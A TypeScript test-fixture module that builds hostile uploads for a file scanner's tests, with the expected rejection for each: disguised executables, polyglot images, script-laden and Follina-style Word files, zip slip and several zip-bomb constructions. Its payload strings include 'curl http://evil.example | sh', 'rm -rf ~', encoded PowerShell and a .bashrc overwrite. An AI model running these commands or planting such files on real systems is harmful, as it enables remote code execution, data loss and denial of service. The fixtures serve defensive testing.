import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { EICAR } from '../../../src/files/scanner/signatures.ts';
import { buildZip, deflatedZeros, type ZipEntry } from './zip-writer.ts';

/**
 * Hostile uploads, generated here (nothing downloaded), each with the verdict the scanner must
 * give. The HTTP suites upload the same bytes and expect 422 with `code`.
 */
export interface MaliciousFile {
  /** Short id for test names. */
  name: string;
  /** The filename the upload claims. */
  filename: string;
  data: Buffer;
  code: 'malware_detected' | 'unsafe_archive';
  /** What the refusal's reason must mention (a check that the right rule fired). */
  reason: RegExp;
}

export { EICAR };

/** A tiny Windows PE: DOS stub and a PE/COFF header for i386. */
export function peExecutable(): Buffer {
  const b = Buffer.alloc(0x200);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84); // i386
  b.writeUInt16LE(1, 0x86); // one section
  b.writeUInt16LE(0xe0, 0x94); // optional header size
  b.writeUInt16LE(0x0102, 0x96); // executable, 32-bit
  b.writeUInt16LE(0x10b, 0x98); // PE32 magic
  return b;
}

/** A tiny x86-64 Linux ELF executable header followed by some code bytes. */
export function elfExecutable(): Buffer {
  const b = Buffer.alloc(0x100);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b, 0);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  b.writeUInt32LE(1, 20);
  b.writeBigUInt64LE(0x400078n, 24);
  b.writeBigUInt64LE(64n, 32);
  b.writeUInt16LE(64, 52);
  b.writeUInt16LE(56, 54);
  b.writeUInt16LE(1, 56);
  Buffer.from([0x48, 0x31, 0xff, 0xb8, 0x3c, 0, 0, 0, 0x0f, 0x05]).copy(b, 0x78); // exit(0)
  return b;
}

/** A 64-bit Mach-O executable header (x86-64). */
export function machOExecutable(): Buffer {
  const b = Buffer.alloc(0x100);
  b.writeUInt32LE(0xfeedfacf, 0);
  b.writeUInt32LE(0x01000007, 4);
  b.writeUInt32LE(3, 8);
  b.writeUInt32LE(2, 12); // MH_EXECUTE
  b.writeUInt32LE(1, 16);
  b.writeUInt32LE(72, 20);
  return b;
}

/** A universal (fat) Mach-O holding the x86-64 one and an arm64 slice. */
export function fatMachO(): Buffer {
  const slice = machOExecutable();
  const head = Buffer.alloc(0x1000);
  head.writeUInt32BE(0xcafebabe, 0);
  head.writeUInt32BE(2, 4);
  for (const [i, cpu] of [0x01000007, 0x0100000c].entries()) {
    const at = 8 + i * 20;
    head.writeUInt32BE(cpu, at);
    head.writeUInt32BE(0x1000 + i * 0x100, at + 8);
    head.writeUInt32BE(0x100, at + 12);
    head.writeUInt32BE(12, at + 16);
  }
  return Buffer.concat([head, slice, slice]);
}

/** A PDF with a valid cross-reference table; `text` is shown on its page. */
export function pdf(text = 'Hello'): Buffer {
  const stream = `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A minimal but well-formed Word document (opens in Word and LibreOffice); `body` is raw WordprocessingML. */
export function docx(options: { body?: string; documentRels?: string; extra?: ZipEntry[] } = {}): Buffer {
  const body = options.body ?? '<w:p><w:r><w:t>Hello</w:t></w:r></w:p>';
  return buildZip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    },
    {
      name: '_rels/.rels',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `<Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`,
      ),
    },
    {
      name: 'word/document.xml',
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${body}</w:body></w:document>`,
      ),
    },
    {
      name: 'word/_rels/document.xml.rels',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `${options.documentRels ?? ''}</Relationships>`,
      ),
    },
    ...(options.extra ?? []),
  ]);
}

/** A small real PNG and JPEG (sharp), to hide things behind. */
export async function smallImages(): Promise<{ png: Buffer; jpeg: Buffer }> {
  const img = sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 80, b: 40 } } });
  return { png: await img.clone().png().toBuffer(), jpeg: await img.clone().jpeg().toBuffer() };
}

/** Many entries pointing at the same compressed data: the overlapping-entries (non-recursive) bomb. */
function overlappingZip(copies: number): Buffer {
  const one = buildZip([{ name: 'kernel', deflated: deflatedZeros(1) }]);
  const cdAt = one.readUInt32LE(one.length - 6);
  const record = one.subarray(cdAt, one.length - 22);
  const cd = Buffer.concat(
    Array.from({ length: copies }, (_, i) => {
      const r = Buffer.from(record);
      r.write(`k${String(i).padStart(5, '0')}`.slice(0, 6), 46, 'latin1'); // same length as "kernel"
      return r;
    }),
  );
  const eocd = Buffer.from(one.subarray(one.length - 22));
  eocd.writeUInt16LE(copies, 8);
  eocd.writeUInt16LE(copies, 10);
  eocd.writeUInt32LE(cd.length, 12);
  return Buffer.concat([one.subarray(0, cdAt), cd, eocd]);
}

function nest(levels: number, inner: Buffer): Buffer {
  let zip = inner;
  for (let i = 0; i < levels; i++) zip = buildZip([{ name: `level${levels - i}.zip`, data: zip, store: true }]);
  return zip;
}

let cached: Promise<MaliciousFile[]> | undefined;

/** Every hostile file with its expected verdict (built once per process). */
export function maliciousCorpus(): Promise<MaliciousFile[]> {
  cached ??= build();
  return cached;
}

async function build(): Promise<MaliciousFile[]> {
  const { png, jpeg } = await smallImages();
  const text = (s: string) => Buffer.from(s, 'utf8');
  const malware = (name: string, filename: string, data: Buffer, reason: RegExp): MaliciousFile => ({
    name,
    filename,
    data,
    code: 'malware_detected',
    reason,
  });
  const unsafe = (name: string, filename: string, data: Buffer, reason: RegExp): MaliciousFile => ({
    name,
    filename,
    data,
    code: 'unsafe_archive',
    reason,
  });
  return [
    malware('EICAR plain', 'eicar.txt', EICAR, /EICAR/),
    malware('EICAR with trailing whitespace', 'eicar.com.txt', Buffer.concat([EICAR, text('  \r\n')]), /EICAR/),
    malware('EICAR in a zip', 'eicar.zip', buildZip([{ name: 'readme.txt', data: EICAR }]), /EICAR/),
    malware(
      'EICAR in a nested zip',
      'eicar-nested.zip',
      buildZip([{ name: 'inner.zip', data: buildZip([{ name: 'eicar.txt', data: EICAR }]) }]),
      /inner\.zip.*EICAR/,
    ),
    malware('PE named .jpg', 'holiday.jpg', peExecutable(), /PE/),
    malware('PE named .pdf', 'invoice.pdf', peExecutable(), /PE/),
    malware('ELF named .jpg', 'cat.jpg', elfExecutable(), /ELF/),
    malware('ELF named .pdf', 'report.pdf', elfExecutable(), /ELF/),
    malware('Mach-O named .jpg', 'photo.jpg', machOExecutable(), /Mach-O/),
    malware('universal Mach-O named .pdf', 'doc.pdf', fatMachO(), /Mach-O/),
    malware('PNG with an ELF appended', 'pretty.png', Buffer.concat([png, elfExecutable()]), /ELF/),
    malware('PNG with a PE appended', 'pretty2.png', Buffer.concat([png, Buffer.alloc(100), peExecutable()]), /PE/),
    malware(
      'PNG with a script appended',
      'pretty3.png',
      Buffer.concat([png, text('<script>alert(document.cookie)</script>')]),
      /after the end of the PNG/,
    ),
    malware(
      'JPEG with a zip appended',
      'pretty.jpg',
      Buffer.concat([jpeg, buildZip([{ name: 'a.txt', data: text('hidden') }])]),
      /after the end of the JPEG/,
    ),
    malware(
      'PDF with a script after %%EOF',
      'paper.pdf',
      Buffer.concat([pdf(), text('#!/bin/sh\ncurl http://evil.example/x | sh\n')]),
      /after the end of the PDF/,
    ),
    malware(
      'zip with data prepended',
      'bundle.zip',
      Buffer.concat([text('prepended bytes that are not part of the archive\n'), buildZip([{ name: 'a.txt', data: text('hi') }])]),
      /zip archive is hidden/,
    ),
    malware('shell script named .jpg', 'image.jpg', text('#!/bin/sh\nrm -rf ~\n'), /script/),
    malware(
      'HTA named .pdf',
      'form.pdf',
      text('<HTA:APPLICATION ID="x"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'),
      /HTML application/,
    ),
    malware('batch file named .jpg', 'pic.jpg', text('@echo off\r\npowershell -enc AAAA\r\n'), /batch/),
    malware(
      'docx with a script element',
      'letter.docx',
      docx({ body: '<w:p><w:r><w:t>Hi</w:t></w:r></w:p><script>new ActiveXObject("WScript.Shell").Run("calc")</script>' }),
      /script/,
    ),
    malware(
      'docx with an ms-msdt external link (Follina)',
      'cv.docx',
      docx({
        documentRels: `<Relationship Id="rId9" Type="${R}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>`,
      }),
      /protocol/,
    ),
    malware(
      'docx with an executable embedded',
      'notes.docx',
      docx({ extra: [{ name: 'word/embeddings/oleObject1.bin', data: Buffer.concat([Buffer.alloc(512, 0x20), peExecutable()]) }] }),
      /oleObject1\.bin.*PE/,
    ),
    malware(
      'docx with a script disguised as an image',
      'memo.docx',
      docx({ extra: [{ name: 'word/media/image1.png', data: text('<script>fetch("http://evil.example")</script>') }] }),
      /image1\.png.*script/,
    ),
    malware(
      'docx with a JScript part',
      'report.docx',
      docx({ extra: [{ name: 'word/embeddings/run.js', data: text('var s = new ActiveXObject("WScript.Shell"); s.Run("calc");') }] }),
      /script inside an Office document/,
    ),
    malware('docx with macros', 'budget.docx', docx({ extra: [{ name: 'word/vbaProject.bin', data: Buffer.alloc(64, 1) }] }), /macros/),
    malware(
      'zip with an .exe',
      'photos.zip',
      buildZip([{ name: 'IMG_0001.jpg.exe', data: text('not really a program') }]),
      /Windows would run/,
    ),
    malware(
      'zip with a script named .jpg',
      'pics.zip',
      buildZip([{ name: 'pics/cat.jpg', data: text('#!/usr/bin/env python3\nimport os\n') }]),
      /disguised/,
    ),
    malware('zip with an ELF named .png', 'icons.zip', buildZip([{ name: 'icon.png', data: elfExecutable() }]), /ELF/),
    malware(
      'zip with a PNG that has a script appended (a polyglot in an archive)',
      'cats.zip',
      buildZip([{ name: 'cat.png', data: Buffer.concat([png, text('<script>alert(document.cookie)</script>')]) }]),
      /cat\.png.*after the end of the PNG/,
    ),
    malware(
      'zip with a JPEG that hides a zip (a polyglot in an archive)',
      'holiday.zip',
      buildZip([{ name: 'beach.jpg', data: Buffer.concat([jpeg, buildZip([{ name: 'a.txt', data: text('hidden') }])]) }]),
      /beach\.jpg.*after the end of the JPEG/,
    ),
    malware(
      'docx whose picture has a script appended',
      'brochure.docx',
      docx({ extra: [{ name: 'word/media/image1.png', data: Buffer.concat([png, text('#!/bin/sh\ncurl http://evil.example | sh\n')]) }] }),
      /image1\.png.*after the end of the PNG/,
    ),
    unsafe(
      'zip with a path-traversal entry (zip slip)',
      'slip.zip',
      buildZip([{ name: '../../.bashrc', data: text('curl evil.example | sh\n') }]),
      /relative path/,
    ),
    unsafe(
      'zip with an encrypted entry (cannot be inspected)',
      'secret.zip',
      buildZip([{ name: 'invoice.pdf', data: randomBytes(200), store: true, encrypted: true }]),
      /encrypted/,
    ),
    unsafe('zip bomb: one entry, high ratio', 'zeros.zip', buildZip([{ name: 'zeros.bin', deflated: deflatedZeros(64) }]), /ratio|times/),
    unsafe(
      'zip bomb: total expansion (many 1 MiB entries)',
      'big.zip',
      buildZip(Array.from({ length: 120 }, (_, i) => ({ name: `part${i}.bin`, deflated: deflatedZeros(1) }))),
      /declares more than \d+ bytes/,
    ),
    unsafe(
      'zip bomb: declared size is a lie',
      'liar.zip',
      buildZip([{ name: 'small.txt', deflated: deflatedZeros(200), declaredSize: 1000 }]),
      /declares|ratio|times|bytes/,
    ),
    unsafe(
      'zip bomb: too many entries',
      'many.zip',
      buildZip(Array.from({ length: 20_000 }, (_, i) => ({ name: `${i}`, data: Buffer.alloc(0), store: true }))),
      /entries/,
    ),
    unsafe('zip bomb: nested too deep', 'deep.zip', nest(6, buildZip([{ name: 'a.txt', data: text('hi') }])), /nested/),
    unsafe(
      'zip bomb: nested copies (42.zip style)',
      '42.zip',
      nest(
        1,
        buildZip(
          Array.from({ length: 16 }, (_, i) => ({
            name: `${i}.zip`,
            data: buildZip(Array.from({ length: 16 }, (_, j) => ({ name: `${j}.bin`, deflated: deflatedZeros(1) }))),
          })),
        ),
      ),
      /ratio|times|bytes|nested/,
    ),
    unsafe('zip bomb: overlapping entries', 'overlap.zip', overlappingZip(90), /overlapping/),
  ];
}
